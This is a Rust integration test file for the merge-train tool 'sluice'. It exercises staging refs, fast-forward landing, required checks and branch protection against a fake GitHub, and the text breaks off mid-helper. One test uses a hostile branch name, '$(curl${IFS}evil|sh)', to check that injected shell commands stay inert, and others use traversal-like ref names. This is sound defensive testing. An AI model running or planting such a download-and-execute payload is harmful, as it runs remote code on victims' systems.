//! The forge side of the merge train, over real HTTP against the fake GitHub
//! (real bare git repositories): building cars on staging refs through
//! GitHub's merges API, landing them by a non-forced ref update, branch
//! protection's required checks, staging refs after a restart, and the
//! fake's new endpoints answering as GitHub does (codes, messages, shapes,
//! ETags, rate limit).

use serde_json::{Value, json};
use sluice::config::GithubConfig;
use sluice::core::{CommitState, MergeMethod, MergeResult, PrKey, RepoName, Sha};
use sluice::fakehub::{FakeHub, Fault};
use sluice::forge::github::GitHub;
use sluice::forge::{CarStep, CommitStatus, Forge, ForgeError, PrFetch, RefUpdate};
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use warp::Filter;

const REPO: &str = "octo/train";
const TOKEN: &str = "train-token";

async fn hub() -> (tempfile::TempDir, FakeHub) {
    let dir = tempfile::tempdir().unwrap();
    let hub = FakeHub::start(dir.path(), Some(TOKEN.into()))
        .await
        .unwrap();
    hub.create_repo(
        REPO,
        "main",
        &[
            ("README.md", "hello\n"),
            ("shared.txt", "one\ntwo\nthree\n"),
        ],
    )
    .await
    .unwrap();
    (dir, hub)
}

fn github(hub: &FakeHub) -> GitHub {
    let config = GithubConfig {
        api_url: hub.api_url(),
        request_timeout_secs: 1,
        max_retries: 2,
        ..GithubConfig::default()
    };
    GitHub::new(&config, Some(TOKEN.into()))
        .unwrap()
        .with_backoff_base(Duration::from_millis(20))
}

fn repo() -> RepoName {
    RepoName::parse(REPO).unwrap()
}

/// A PR from a new branch `branch` (off main) writing `files`: its number
/// and head.
async fn pr(hub: &FakeHub, branch: &str, files: &[(&str, &str)]) -> (u64, Sha) {
    let head = hub
        .commit(
            REPO,
            branch,
            Some("main"),
            files,
            &format!("Change {branch}"),
        )
        .await
        .unwrap();
    let n = hub
        .open_pr(REPO, branch, "main", &format!("PR {branch}"), "alice")
        .await
        .unwrap();
    (n, head)
}

async fn main_head(hub: &FakeHub) -> Sha {
    hub.branch_head(REPO, "main").await.unwrap()
}

/// `git <args>` in `dir` (a work tree) or the fake's bare repository.
async fn git(dir: Option<&Path>, hub: &FakeHub, args: &[&str]) -> String {
    let mut cmd = tokio::process::Command::new("git");
    match dir {
        Some(d) => {
            cmd.current_dir(d);
        }
        None => {
            let bare = hub.clone_url(REPO);
            cmd.arg("--git-dir").arg(bare.trim_start_matches("file://"));
        }
    }
    let out = cmd
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid")
        .output()
        .await
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

async fn tree_of(hub: &FakeHub, sha: &Sha) -> String {
    git(None, hub, &["rev-parse", &format!("{sha}^{{tree}}")]).await
}

async fn parents_of(hub: &FakeHub, sha: &Sha) -> Vec<String> {
    let line = git(
        None,
        hub,
        &["rev-list", "--parents", "-n", "1", sha.as_str()],
    )
    .await;
    line.split_whitespace()
        .skip(1)
        .map(str::to_string)
        .collect()
}

async fn is_ancestor(hub: &FakeHub, a: &Sha, b: &Sha) -> bool {
    let bare = hub.clone_url(REPO);
    tokio::process::Command::new("git")
        .arg("--git-dir")
        .arg(bare.trim_start_matches("file://"))
        .args(["merge-base", "--is-ancestor", a.as_str(), b.as_str()])
        .status()
        .await
        .unwrap()
        .success()
}

/// The tree `git merge` (one merge commit per head, in order) gives for
/// `heads` onto `target`, computed in a fresh clone.
async fn git_merge_tree(hub: &FakeHub, target: &Sha, heads: &[&Sha]) -> String {
    let work = tempfile::tempdir().unwrap();
    let w = Some(work.path());
    git(w, hub, &["init", "-q"]).await;
    let url = hub.clone_url(REPO);
    let mut fetch = vec!["fetch", "-q", url.as_str(), target.as_str()];
    fetch.extend(heads.iter().map(|h| h.as_str()));
    git(w, hub, &fetch).await;
    git(w, hub, &["checkout", "-q", "--detach", target.as_str()]).await;
    for h in heads {
        git(w, hub, &["merge", "-q", "--no-ff", "--no-edit", h.as_str()]).await;
    }
    git(w, hub, &["rev-parse", "HEAD^{tree}"]).await
}

fn merged_sha(step: CarStep) -> Sha {
    match step {
        CarStep::Merged { sha } => sha,
        other => panic!("expected Merged, got {other:?}"),
    }
}

/// A car of one PR: staging ref `sluice/main/1` at `target`, `head`
/// merged into it.
async fn one_pr_car(gh: &GitHub, target: &Sha, head: &Sha) -> Sha {
    gh.put_staging_ref(&repo(), "sluice/main/1", target)
        .await
        .unwrap();
    merged_sha(
        gh.merge_into_staging(&repo(), "sluice/main/1", head, MergeMethod::Merge, "m")
            .await
            .unwrap(),
    )
}

fn success() -> CommitStatus {
    CommitStatus {
        state: CommitState::Success,
        description: "Car passed".into(),
        target_url: None,
    }
}

#[derive(Clone, Default)]
struct Received(Arc<Mutex<Vec<(String, Value)>>>);

impl Received {
    fn events(&self, event: &str) -> Vec<Value> {
        self.0
            .lock()
            .unwrap()
            .iter()
            .filter(|(e, _)| e == event)
            .map(|(_, v)| v.clone())
            .collect()
    }
}

/// A webhook receiver that keeps (event, payload) of every delivery.
async fn receiver(hub: &FakeHub) -> Received {
    let got = Received::default();
    let sink = got.clone();
    let route = warp::post()
        .and(warp::header::<String>("x-github-event"))
        .and(warp::body::json())
        .map(move |event: String, body: Value| {
            sink.0.lock().unwrap().push((event, body));
            warp::reply()
        });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(warp::serve(route).incoming(listener).run());
    hub.set_webhook(&format!("http://{addr}/webhook"), "s3cret");
    got
}

// ------------------------------------------------------------ building cars

#[tokio::test]
async fn a_three_pr_car_is_what_git_merge_gives_with_one_merge_commit_per_pr() {
    let (_dir, hub) = hub().await;
    let (_, a) = pr(&hub, "a", &[("a.txt", "a\n")]).await;
    let (_, b) = pr(&hub, "b", &[("shared.txt", "one\ntwo\nthree\nfour\n")]).await;
    let (_, c) = pr(&hub, "c", &[("c/deep.txt", "c\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);

    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    assert_eq!(
        hub.branch_head(REPO, "sluice/main/1").await,
        Some(target.clone())
    );
    let mut tip = target.clone();
    for (i, head) in [&a, &b, &c].into_iter().enumerate() {
        let message = format!("Car 1: merge PR {i}");
        let car = merged_sha(
            gh.merge_into_staging(&repo(), "sluice/main/1", head, MergeMethod::Merge, &message)
                .await
                .unwrap(),
        );
        assert_eq!(
            parents_of(&hub, &car).await,
            vec![tip.to_string(), head.to_string()],
            "step {i}: parents are (previous tip, PR head)"
        );
        assert_eq!(
            git(None, &hub, &["log", "-1", "--format=%B", car.as_str()]).await,
            message
        );
        assert_eq!(
            hub.branch_head(REPO, "sluice/main/1").await,
            Some(car.clone())
        );
        tip = car;
    }
    assert_eq!(
        tree_of(&hub, &tip).await,
        git_merge_tree(&hub, &target, &[&a, &b, &c]).await,
        "the car's tree is what `git merge` of the three heads onto T gives"
    );
    assert_eq!(
        main_head(&hub).await,
        target,
        "building a car never moves main"
    );

    // A head already in the car: nothing to merge, the ref stays.
    let step = gh
        .merge_into_staging(&repo(), "sluice/main/1", &b, MergeMethod::Merge, "again")
        .await
        .unwrap();
    assert_eq!(step, CarStep::NothingToMerge { sha: tip.clone() });
    assert_eq!(hub.branch_head(REPO, "sluice/main/1").await, Some(tip));
}

#[tokio::test]
async fn a_conflicting_pr_is_a_conflict_and_leaves_the_staging_ref_where_it_was() {
    let (_dir, hub) = hub().await;
    let (_, a) = pr(&hub, "a", &[("README.md", "hello from a\n")]).await;
    let (_, b) = pr(&hub, "b", &[("README.md", "hello from b\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    let car = merged_sha(
        gh.merge_into_staging(&repo(), "sluice/main/1", &a, MergeMethod::Merge, "a")
            .await
            .unwrap(),
    );
    let mark = hub.request_mark();
    let step = gh
        .merge_into_staging(&repo(), "sluice/main/1", &b, MergeMethod::Merge, "b")
        .await
        .unwrap();
    assert_eq!(
        step,
        CarStep::Conflict {
            message: "Merge conflict".into()
        }
    );
    assert_eq!(hub.branch_head(REPO, "sluice/main/1").await, Some(car));
    let calls = hub.requests_since(mark);
    assert_eq!(calls.len(), 1, "a 409 is not retried: {calls:?}");
    assert_eq!(calls[0].status, 409);

    // Squash conflicts alike; the ref does not move.
    let step = gh
        .merge_into_staging(&repo(), "sluice/main/1", &b, MergeMethod::Squash, "b")
        .await
        .unwrap();
    assert!(matches!(step, CarStep::Conflict { .. }), "{step:?}");
}

#[tokio::test]
async fn a_squash_car_holds_one_commit_per_pr_with_the_merged_tree() {
    let (_dir, hub) = hub().await;
    let (na, a) = pr(&hub, "a", &[("a.txt", "a\n")]).await;
    let (nb, b) = pr(&hub, "b", &[("shared.txt", "zero\none\ntwo\nthree\n")]).await;
    let (nc, c) = pr(&hub, "c", &[("c.txt", "c\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    // The same car with merge commits, to compare trees step by step.
    gh.put_staging_ref(&repo(), "sluice/main/2", &target)
        .await
        .unwrap();
    let mut tip = target.clone();
    for (n, head) in [(na, &a), (nb, &b), (nc, &c)] {
        let message = format!("PR {n} (#{n})\n\nCo-authored-by: alice <alice@example.invalid>");
        let squashed = merged_sha(
            gh.merge_into_staging(
                &repo(),
                "sluice/main/1",
                head,
                MergeMethod::Squash,
                &message,
            )
            .await
            .unwrap(),
        );
        let merged = merged_sha(
            gh.merge_into_staging(&repo(), "sluice/main/2", head, MergeMethod::Merge, "m")
                .await
                .unwrap(),
        );
        assert_eq!(parents_of(&hub, &squashed).await, vec![tip.to_string()]);
        assert_eq!(tree_of(&hub, &squashed).await, tree_of(&hub, &merged).await);
        assert_eq!(
            git(None, &hub, &["log", "-1", "--format=%B", squashed.as_str()]).await,
            message
        );
        assert_eq!(
            hub.branch_head(REPO, "sluice/main/1").await,
            Some(squashed.clone())
        );
        tip = squashed;
    }
    let count = git(
        None,
        &hub,
        &["rev-list", "--count", &format!("{target}..{tip}")],
    )
    .await;
    assert_eq!(count, "3", "one commit per PR");
    assert_eq!(
        tree_of(&hub, &tip).await,
        git_merge_tree(&hub, &target, &[&a, &b, &c]).await
    );

    let err = gh
        .merge_into_staging(&repo(), "sluice/main/1", &a, MergeMethod::Rebase, "r")
        .await
        .unwrap_err();
    assert!(matches!(err, ForgeError::Unsupported { .. }), "{err}");
    assert!(
        err.to_string().contains("not supported in trains yet"),
        "{err}"
    );
}

#[tokio::test]
async fn a_squash_step_whose_merge_answer_was_lost_is_finished_on_retry() {
    let (_dir, hub) = hub().await;
    let (_, a) = pr(&hub, "a", &[("a.txt", "a\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    // The merge is carried out, but its answer comes after the client's
    // 1 s timeout; the retry finds nothing to merge and squashes the tip.
    hub.inject_fault(Fault::SlowAnswer {
        method: Some("POST".into()),
        path_prefix: format!("/repos/{REPO}/merges"),
        delay: Duration::from_millis(1500),
        times: 1,
    });
    let mark = hub.request_mark();
    let car = merged_sha(
        gh.merge_into_staging(&repo(), "sluice/main/1", &a, MergeMethod::Squash, "A (#1)")
            .await
            .unwrap(),
    );
    let merges: Vec<u16> = hub
        .requests_since(mark)
        .iter()
        .filter(|r| r.method == "POST" && r.path.ends_with("/merges"))
        .map(|r| r.status)
        .collect();
    assert_eq!(
        merges,
        vec![201, 204],
        "the merge took effect, then the retry found it"
    );
    assert_eq!(parents_of(&hub, &car).await, vec![target.to_string()]);
    assert_eq!(
        hub.branch_head(REPO, "sluice/main/1").await,
        Some(car.clone())
    );
    assert_eq!(
        tree_of(&hub, &car).await,
        git_merge_tree(&hub, &target, &[&a]).await
    );
}

// ------------------------------------------------------------ landing

#[tokio::test]
async fn landing_a_car_fast_forwards_main_and_github_marks_its_prs_merged() {
    let (_dir, hub) = hub().await;
    let got = receiver(&hub).await;
    let (n1, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let (n2, h2) = pr(&hub, "two", &[("two.txt", "2\n")]).await;
    let (n3, _) = pr(&hub, "three", &[("three.txt", "3\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    gh.put_staging_ref(&repo(), "sluice/main/1", &target)
        .await
        .unwrap();
    for h in [&h1, &h2] {
        gh.merge_into_staging(&repo(), "sluice/main/1", h, MergeMethod::Merge, "m")
            .await
            .unwrap();
    }
    let car = hub.branch_head(REPO, "sluice/main/1").await.unwrap();
    hub.idle().await;
    let before = got.events("pull_request").len();

    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
    assert_eq!(main_head(&hub).await, car);
    for n in [n1, n2] {
        let p = hub.pr(REPO, n).unwrap();
        assert!(p.merged, "#{n} is merged");
        assert_eq!(p.state, "closed");
        assert_eq!(p.merge_commit_sha.as_ref(), Some(&car));
        let fetched = gh
            .get_pr(&PrKey {
                repo: repo(),
                number: n,
            })
            .await
            .unwrap();
        assert_eq!(
            fetched,
            Some(PrFetch::Closed {
                merge_sha: Some(car.clone())
            })
        );
    }
    assert_eq!(
        hub.pr(REPO, n3).unwrap().state,
        "open",
        "#{n3} was not in the car"
    );

    hub.idle().await;
    let closed: Vec<Value> = got.events("pull_request")[before..].to_vec();
    let mut numbers: Vec<u64> = closed
        .iter()
        .filter(|v| v["action"] == "closed" && v["pull_request"]["merged"] == true)
        .map(|v| v["number"].as_u64().unwrap())
        .collect();
    numbers.sort();
    assert_eq!(
        numbers,
        vec![n1, n2],
        "a `closed` webhook, merged, per PR in the car"
    );
    for v in &closed {
        assert_eq!(v["pull_request"]["merge_commit_sha"], car.as_str());
    }
    let push = got
        .events("push")
        .into_iter()
        .find(|v| v["ref"] == "refs/heads/main")
        .expect("a push webhook for main");
    assert_eq!(push["before"], target.as_str());
    assert_eq!(push["after"], car.as_str());
    assert_eq!(push["forced"], false);

    // Once more to the same sha: already there, nothing changes.
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
}

#[tokio::test]
async fn a_push_that_races_the_landing_makes_it_not_a_fast_forward_and_nothing_lands() {
    let (_dir, hub) = hub().await;
    let got = receiver(&hub).await;
    // Webhooks take 400 ms, as they may on GitHub: sluice cannot know of
    // the push below when it lands, and need not.
    hub.set_delivery_delay(Duration::from_millis(400));
    let (n1, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    let car = one_pr_car(&gh, &target, &h1).await;
    let pushed = hub
        .commit(
            REPO,
            "main",
            None,
            &[("hotfix.txt", "fix\n")],
            "Hotfix by a person",
        )
        .await
        .unwrap();
    let mark = hub.request_mark();
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::NotFastForward
    );
    assert_eq!(hub.requests_since(mark).len(), 1, "a 422 is not retried");
    assert_eq!(main_head(&hub).await, pushed, "the person's commit stays");
    assert!(
        !is_ancestor(&hub, &car, &pushed).await,
        "the untested car is not on main"
    );
    assert!(!hub.pr(REPO, n1).unwrap().merged);
    hub.idle().await;
    assert!(
        got.events("push")
            .iter()
            .all(|v| v["after"] != car.as_str() || v["ref"] != "refs/heads/main"),
        "no push of the car to main"
    );
}

#[tokio::test]
async fn a_fast_forward_is_retried_on_a_502_and_reports_failures() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    let car = one_pr_car(&gh, &target, &h1).await;
    hub.inject_fault(Fault::status(
        "PATCH",
        &format!("/repos/{REPO}/git/refs/heads/main"),
        502,
        1,
    ));
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
    assert_eq!(main_head(&hub).await, car);

    let gone = gh.fast_forward(&repo(), "no-such-branch", &car).await;
    assert!(
        matches!(&gone, RefUpdate::Failed { reason } if reason.contains("Reference does not exist")),
        "{gone:?}"
    );
    let hostile = gh.fast_forward(&repo(), "a..b", &car).await;
    assert!(matches!(hostile, RefUpdate::Failed { .. }), "{hostile:?}");
}

// ------------------------------------------------------------ required checks

#[tokio::test]
async fn a_required_check_refuses_the_landing_until_the_car_has_its_success() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let (n2, h2) = pr(&hub, "two", &[("two.txt", "2\n")]).await;
    hub.protect_branch(REPO, "main", &["sluice"]).unwrap();
    let gh = github(&hub);
    assert_eq!(
        gh.required_checks(&repo(), "main").await.unwrap(),
        vec!["sluice".to_string()]
    );
    assert_eq!(
        gh.required_checks(&repo(), "one").await.unwrap(),
        Vec::<String>::new(),
        "an unprotected branch requires nothing"
    );

    let target = main_head(&hub).await;
    let car = one_pr_car(&gh, &target, &h1).await;
    let refused = gh.fast_forward(&repo(), "main", &car).await;
    assert_eq!(
        refused,
        RefUpdate::Refused {
            reason: "Required status check \"sluice\" is expected.".into()
        }
    );
    assert_eq!(main_head(&hub).await, target);

    let pending = CommitStatus {
        state: CommitState::Pending,
        description: "testing".into(),
        target_url: None,
    };
    gh.set_status(&repo(), &car, &pending).await.unwrap();
    assert!(matches!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Refused { .. }
    ));
    gh.set_status(&repo(), &car, &success()).await.unwrap();
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
    assert_eq!(main_head(&hub).await, car);

    // The old way refuses as GitHub does without the check on the head...
    let key = PrKey {
        repo: repo(),
        number: n2,
    };
    let refused = gh.merge(&key, &h2, MergeMethod::Merge, "Two").await;
    assert_eq!(
        refused,
        MergeResult::Refused {
            reason: "Required status check \"sluice\" is expected.".into()
        }
    );
    let raw = reqwest::Client::new()
        .put(format!("{}/repos/{REPO}/pulls/{n2}/merge", hub.api_url()))
        .bearer_auth(TOKEN)
        .json(&json!({"sha": h2.as_str()}))
        .send()
        .await
        .unwrap();
    assert_eq!(raw.status(), 405);
    let body: Value = raw.json().await.unwrap();
    assert_eq!(
        body["message"],
        "Required status check \"sluice\" is expected."
    );
    // ...and merges once the head has it.
    gh.set_status(&repo(), &h2, &success()).await.unwrap();
    assert!(matches!(
        gh.merge(&key, &h2, MergeMethod::Merge, "Two").await,
        MergeResult::Merged { .. }
    ));
}

#[tokio::test]
async fn several_required_checks_are_counted_and_protection_forbids_force() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    hub.protect_branch(REPO, "main", &["sluice", "ci/lint"])
        .unwrap();
    let gh = github(&hub);
    assert_eq!(
        gh.required_checks(&repo(), "main").await.unwrap(),
        vec!["sluice".to_string(), "ci/lint".to_string()]
    );
    let target = main_head(&hub).await;
    let car = one_pr_car(&gh, &target, &h1).await;
    gh.set_status(&repo(), &car, &success()).await.unwrap();
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Refused {
            reason: "1 of 2 required status checks are expected.".into()
        }
    );
    // A forced move of a protected branch is refused even with the checks.
    let old = hub
        .commit(REPO, "side", Some("main"), &[("s", "s")], "side")
        .await
        .unwrap();
    let raw = reqwest::Client::new()
        .patch(format!(
            "{}/repos/{REPO}/git/refs/heads/main",
            hub.api_url()
        ))
        .bearer_auth(TOKEN)
        .json(&json!({"sha": old.as_str(), "force": true}))
        .send()
        .await
        .unwrap();
    assert_eq!(raw.status(), 422);
    let del = reqwest::Client::new()
        .delete(format!(
            "{}/repos/{REPO}/git/refs/heads/main",
            hub.api_url()
        ))
        .bearer_auth(TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(del.status(), 422);
    let body: Value = del.json().await.unwrap();
    assert_eq!(body["message"], "Cannot delete a protected branch");
    assert_eq!(main_head(&hub).await, target);

    hub.unprotect_branch(REPO, "main");
    assert!(
        gh.required_checks(&repo(), "main")
            .await
            .unwrap()
            .is_empty()
    );
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
}

// ------------------------------------------------------------ staging refs

#[tokio::test]
async fn staging_refs_are_listed_moved_and_deleted_and_only_sluices_own() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    // Branches that only look like sluice's.
    hub.commit(REPO, "sluicey", Some("main"), &[("x", "x")], "x")
        .await
        .unwrap();
    let target = main_head(&hub).await;
    let gh = github(&hub);
    assert!(gh.staging_refs(&repo()).await.unwrap().is_empty());
    for name in ["sluice/main/2", "sluice/main/1", "sluice/dev/x/1"] {
        gh.put_staging_ref(&repo(), name, &target).await.unwrap();
    }
    gh.put_staging_ref(&repo(), "sluice/main/2", &h1)
        .await
        .unwrap();
    // Moved back with force: staging refs are sluice's to rewrite.
    gh.put_staging_ref(&repo(), "sluice/main/2", &target)
        .await
        .unwrap();
    gh.put_staging_ref(&repo(), "sluice/main/2", &h1)
        .await
        .unwrap();
    assert_eq!(
        gh.staging_refs(&repo()).await.unwrap(),
        vec![
            ("sluice/dev/x/1".to_string(), target.clone()),
            ("sluice/main/1".to_string(), target.clone()),
            ("sluice/main/2".to_string(), h1.clone()),
        ]
    );

    gh.delete_staging_ref(&repo(), "sluice/main/1")
        .await
        .unwrap();
    assert_eq!(hub.branch_head(REPO, "sluice/main/1").await, None);
    gh.delete_staging_ref(&repo(), "sluice/main/1")
        .await
        .expect("deleting what is gone is fine");
    let names: Vec<String> = gh
        .staging_refs(&repo())
        .await
        .unwrap()
        .into_iter()
        .map(|(n, _)| n)
        .collect();
    assert_eq!(names, vec!["sluice/dev/x/1", "sluice/main/2"]);

    let mark = hub.request_mark();
    for name in [
        "main",
        "sluicey",
        "sluice/",
        "feature/sluice/1",
        "sluice/main/../x",
    ] {
        let err = gh.put_staging_ref(&repo(), name, &h1).await.unwrap_err();
        assert!(matches!(err, ForgeError::Invalid { .. }), "{name}: {err}");
        let err = gh.delete_staging_ref(&repo(), name).await.unwrap_err();
        assert!(matches!(err, ForgeError::Invalid { .. }), "{name}: {err}");
        let err = gh
            .merge_into_staging(&repo(), name, &h1, MergeMethod::Merge, "m")
            .await
            .unwrap_err();
        assert!(matches!(err, ForgeError::Invalid { .. }), "{name}: {err}");
    }
    assert!(
        hub.requests_since(mark).is_empty(),
        "a refused name never reaches GitHub"
    );
    assert_eq!(main_head(&hub).await, target);
    assert_eq!(
        hub.branch_head(REPO, "sluicey")
            .await
            .map(|s| s.to_string()),
        Some(git(None, &hub, &["rev-parse", "refs/heads/sluicey"]).await)
    );
}

#[tokio::test]
async fn a_hostile_branch_name_is_only_a_path_segment() {
    let (_dir, hub) = hub().await;
    let gh = github(&hub);
    let target = main_head(&hub).await;
    let name = "sluice/$(curl${IFS}evil|sh)/1";
    gh.put_staging_ref(&repo(), name, &target).await.unwrap();
    assert_eq!(hub.branch_head(REPO, name).await, Some(target.clone()));
    assert_eq!(
        gh.staging_refs(&repo()).await.unwrap(),
        vec![(name.to_string(), target)]
    );
    gh.delete_staging_ref(&repo(), name).await.unwrap();
    assert_eq!(hub.branch_head(REPO, name).await, None);
}

/// A forge that implements only what the old trait asked for.
struct OldForge;

#[async_trait::async_trait]
impl Forge for OldForge {
    async fn list_open_prs(
        &self,
        _: &RepoName,
    ) -> Result<Vec<sluice::core::PrSnapshot>, ForgeError> {
        Ok(Vec::new())
    }
    async fn get_pr(&self, _: &PrKey) -> Result<Option<PrFetch>, ForgeError> {
        Ok(None)
    }
    async fn reviews(&self, _: &PrKey) -> Result<Vec<sluice::core::ReviewFact>, ForgeError> {
        Ok(Vec::new())
    }
    async fn branch_head(&self, _: &RepoName, _: &str) -> Result<Option<Sha>, ForgeError> {
        Ok(None)
    }
    async fn set_status(&self, _: &RepoName, _: &Sha, _: &CommitStatus) -> Result<(), ForgeError> {
        Ok(())
    }
    async fn merge(&self, _: &PrKey, _: &Sha, _: MergeMethod, _: &str) -> MergeResult {
        MergeResult::HeadMoved
    }
}

#[tokio::test]
async fn other_forges_say_the_train_methods_are_not_supported() {
    let f = OldForge;
    let sha = Sha::parse(&"a".repeat(40)).unwrap();
    let err = f.put_staging_ref(&repo(), "sluice/main/1", &sha).await;
    assert!(matches!(err, Err(ForgeError::Unsupported { .. })));
    assert!(matches!(
        f.fast_forward(&repo(), "main", &sha).await,
        RefUpdate::Failed { reason } if reason.contains("not supported by this forge")
    ));
    assert!(f.staging_refs(&repo()).await.is_err());
    assert!(f.required_checks(&repo(), "main").await.is_err());
    assert!(matches!(
        f.is_ancestor(&repo(), &sha, &sha).await,
        Err(ForgeError::Unsupported { .. })
    ));
}

/// After a restart sluice asks whether the target still holds the car it
/// landed, though a person pushed on top of it since (GitHub's compare).
#[tokio::test]
async fn is_ancestor_says_whether_a_landed_car_is_under_the_target() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let (_, other) = pr(&hub, "other", &[("other.txt", "o\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    let car = one_pr_car(&gh, &target, &h1).await;
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
    let pushed = hub
        .commit(REPO, "main", None, &[("hotfix.txt", "fix\n")], "Hotfix")
        .await
        .unwrap();
    let holds = |a: Sha, d: Sha| {
        let gh = &gh;
        async move { gh.is_ancestor(&repo(), &a, &d).await.unwrap() }
    };
    assert!(holds(car.clone(), pushed.clone()).await, "ahead");
    assert!(holds(car.clone(), car.clone()).await, "identical");
    assert!(holds(target.clone(), pushed.clone()).await, "ahead by more");
    assert!(!holds(pushed.clone(), car.clone()).await, "behind");
    assert!(!holds(other.clone(), pushed.clone()).await, "diverged");
    let unknown = Sha::parse(&"e".repeat(40)).unwrap();
    assert!(
        !holds(unknown, pushed.clone()).await,
        "a commit GitHub lacks"
    );
    // A 502 is retried like any call.
    hub.inject_fault(Fault::status(
        "GET",
        &format!("/repos/{REPO}/compare/"),
        502,
        1,
    ));
    assert!(holds(car.clone(), pushed.clone()).await);

    // The fake's answer, as GitHub's compare reads.
    let spec = format!("/compare/{target}...{pushed}");
    let (code, _, v) = raw(&hub, "GET", &spec, None, None).await;
    assert_eq!(code, 200, "{v}");
    assert_eq!(v["status"], "ahead");
    assert_eq!(v["ahead_by"], 3, "the car, one's commit and the hotfix");
    assert_eq!(v["behind_by"], 0);
    assert_eq!(v["base_commit"]["sha"], target.as_str());
    assert_eq!(v["merge_base_commit"]["sha"], target.as_str());
    let (_, _, v) = raw(
        &hub,
        "GET",
        &format!("/compare/{other}...{pushed}"),
        None,
        None,
    )
    .await;
    assert_eq!(v["status"], "diverged");
    assert_eq!(v["behind_by"], 1);
    let (_, _, v) = raw(&hub, "GET", "/compare/main...one", None, None).await;
    assert_eq!(v["status"], "behind", "branch names work too: {v}");
    let (code, _, v) = raw(
        &hub,
        "GET",
        &format!("/compare/{}...main", "e".repeat(40)),
        None,
        None,
    )
    .await;
    assert_eq!(code, 404, "{v}");
    assert_eq!(v["message"], "Not Found");
}

/// The fake keeps every move of a branch with the checks the commit had
/// then: statuses posted after the move do not count for it.
#[tokio::test]
async fn the_fake_records_each_branch_move_with_the_checks_its_commit_had() {
    let (_dir, hub) = hub().await;
    let (_, h1) = pr(&hub, "one", &[("one.txt", "1\n")]).await;
    let target = main_head(&hub).await;
    let gh = github(&hub);
    let car = one_pr_car(&gh, &target, &h1).await;
    gh.set_status(&repo(), &car, &success()).await.unwrap();
    assert_eq!(
        gh.fast_forward(&repo(), "main", &car).await,
        RefUpdate::Moved
    );
    let pushed = hub
        .commit(REPO, "main", None, &[("hotfix.txt", "fix\n")], "Hotfix")
        .await
        .unwrap();
    gh.set_status(&repo(), &pushed, &success()).await.unwrap();
    let main: Vec<_> = hub
        .branch_moves(REPO)
        .into_iter()
        .filter(|m| m.branch == "main")
        .collect();
    assert_eq!(main.len(), 2, "{main:?}");
    assert_eq!(main[0].before.as_ref(), Some(&target));
    assert_eq!(main[0].after.as_ref(), Some(&car));
    assert_eq!(main[0].pusher, sluice::fakehub::MERGER);
    assert_eq!(main[0].successful_checks, vec![success_context(&hub, &car)]);
    assert_eq!(main[1].after.as_ref(), Some(&pushed));
    assert_eq!(main[1].pusher, "octo");
    assert!(
        main[1].successful_checks.is_empty(),
        "its status came after"
    );
    let staging: Vec<_> = hub
        .branch_moves(REPO)
        .into_iter()
        .filter(|m| m.branch == "sluice/main/1")
        .collect();
    assert_eq!(staging[0].before, None, "created");
    assert_eq!(staging[1].after.as_ref(), Some(&car));
}

/// The context sluice's statuses are posted with (by `GitHub::set_status`).
fn success_context(hub: &FakeHub, sha: &Sha) -> String {
    hub.statuses(REPO, sha.as_str())
        .last()
        .unwrap()
        .context
        .clone()
}

// ------------------------------------------------------------ the fake itself

async fn raw(
    hub: &FakeHub,
    method: &str,
    path: &str,
    body: Option<Value>,
    tag: Option<&str>,
) -> (u16, reqwest::header::HeaderMap, Value) {
    let mut r = reqwest::Client::new()
        .request(
            method.parse().unwrap(),
            format!("{}/repos/{REPO}{path}", hub.api_url()),
        )
        .bearer_auth(TOKEN);
    if let Some(b) = body {
        r = r.json(&b);
    }
    if let Some(t) = tag {
        r = r.header("if-none-match", t);
    }
